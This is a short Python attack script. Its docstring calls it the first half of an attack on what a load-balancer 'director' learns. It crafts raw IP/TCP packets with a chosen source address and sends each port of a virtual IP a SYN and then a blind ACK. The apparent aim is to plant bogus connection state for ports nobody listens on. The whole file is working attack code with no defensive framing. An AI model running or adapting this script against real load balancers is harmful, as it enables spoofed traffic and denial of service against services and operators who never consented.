"""The first half of an attack on what the director learns: handshakes with ports that nobody listens on.

    handshakes.py SOURCE VIP FIRST LAST     to each port a SYN and, whatever comes back, the ACK that would complete it
"""

import socket
import struct
import sys

SYN, ACK = 2, 16


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, vip, ports, sequence, acknowledged, flags):
    tcp = struct.pack("!HHIIBBHHH", *ports, sequence, acknowledged, 5 << 4, flags, 64240, 0, 0)
    pseudo = source + vip + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills in the IP header's checksum and length.
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, source, vip) + tcp


def main(source, vip, first, last):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    one, other = socket.inet_aton(source), socket.inet_aton(vip)
    for port in range(int(first), int(last) + 1):
        ports = (20000 + port, port)
        raw.sendto(segment(one, other, ports, 1000, 0, SYN), (vip, 0))
        raw.sendto(segment(one, other, ports, 1001, 2001, ACK), (vip, 0))


if __name__ == "__main__":
    main(*sys.argv[1:])
